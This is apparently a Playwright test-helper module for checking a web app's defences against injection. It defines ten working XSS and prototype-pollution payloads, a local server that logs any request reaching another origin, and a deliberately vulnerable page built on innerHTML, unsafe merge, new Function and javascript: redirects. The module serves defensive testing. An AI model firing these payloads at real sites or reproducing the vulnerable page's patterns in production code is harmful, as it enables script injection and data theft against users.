import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext } from '@playwright/test';

/** A server of another origin: every request to it is a leak. */
export async function openStranger() {
  const asked: string[] = [];
  let page = '';
  const server = createServer((from, to) => {
    if (from.url === '/' || from.url?.startsWith('/?')) {
      to.setHeader('Content-Type', 'text/html; charset=utf-8');
      to.end(page);
      return;
    }
    asked.push(from.url ?? '');
    to.setHeader('Access-Control-Allow-Origin', '*');
    to.setHeader('Content-Type', from.url?.endsWith('.css') ? 'text/css' : 'text/javascript');
    to.end(from.url?.endsWith('.js') ? `pwned('${from.url}')` : '');
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    /** What it serves as its own page. */
    shows(markup: string) {
      page = markup;
    },
    stop() {
      server.closeAllConnections();
      server.close();
    },
  };
}

/** Ten injection payloads. Each reports its name when it runs, and requests a URL with its name when it loads. */
export const payloads = (stranger: string) => ({
  script: `<script>pwned('script')</script><script src="${stranger}/script.js"></script>`,
  image: `<img src=x onerror="pwned('image')"><img src="${stranger}/image">`,
  svg: `<svg onload="pwned('svg')"><image href="${stranger}/svg"/></svg>`,
  address: `javascript:pwned('address')//${stranger}/address`,
  template: `\${pwned('template')} {{constructor.constructor("pwned('template')")()}} [a](javascript:pwned('template')) ![b](${stranger}/template)`,
  mutation: `<noscript><p title="</noscript><img src=x onerror=pwned('mutation')>"><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned('mutation')&gt;">`,
  outbreak: `</textarea></title></script><iframe srcdoc="<script>parent.pwned('outbreak')</script>"></iframe>`,
  hidden: `\u202e<\u200bimg src=x on\u200berror="pwned('hidden')">\u202c\u2066＜script＞pwned('hidden')＜/script＞`,
  style: `"><style>@import "${stranger}/style.css";*{background:url(${stranger}/style)}</style><p style="background:url(${stranger}/style)">`,
  prototype: `{"__proto__":{"tainted":true},"constructor":{"prototype":{"tainted":true}}}`,
});

export type Payload = keyof ReturnType<typeof payloads>;

/** Records which payloads ran in a browser's pages. Call before the first page opens. */
export async function watch(context: BrowserContext, own: readonly string[]) {
  const ran: string[] = [];
  const left: string[] = [];
  await context.exposeBinding('pwned', (_source, name: string) => void ran.push(name));
  await context.exposeBinding('refused', (_source, what: string) => void ran.push(what));
  await context.addInitScript(() => {
    const { refused } = window as unknown as { refused(what: string): void };
    addEventListener('securitypolicyviolation', (event) =>
      refused(`refused by policy: ${event.effectiveDirective} ${event.blockedURI}`),
    );
    addEventListener('pagehide', () => 'tainted' in {} && refused('an object of everybody’s'));
  });
  context.on('page', (page) => {
    page.on('dialog', (dialog) => {
      ran.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
  });
  context.on('request', (request) => {
    const { origin, protocol } = new URL(request.url());
    if (!own.includes(origin) && !/^(?:blob|data|file):$/.test(protocol)) left.push(request.url());
  });
  return { ran, left };
}

/** An unprotected page that inserts text as HTML, script and URL. */
export const carelessPage = (
  payload: string,
) => `<!doctype html><body><div id="place"></div><script>
const words = ${JSON.stringify(payload).replaceAll('<', '\\u003c')};
const place = document.getElementById('place');
const clean = words.replace(/[\\u200b\\u202c\\u202e\\u2066]/g, '');
place.innerHTML = clean;
place.innerHTML = place.innerHTML;
place.append(document.createRange().createContextualFragment(clean));
const merge = (into, from) => { for (const key in from)
  if (typeof from[key] === 'object') merge(into[key] ??= {}, from[key]); else into[key] = from[key]; };
try { merge({}, JSON.parse(words)) } catch {}
try { new Function('return \`' + words + '\`')() } catch {}
if (words.startsWith('javascript:')) location.href = words;
if ('tainted' in {}) refused('an object of everybody’s');
</script>`;
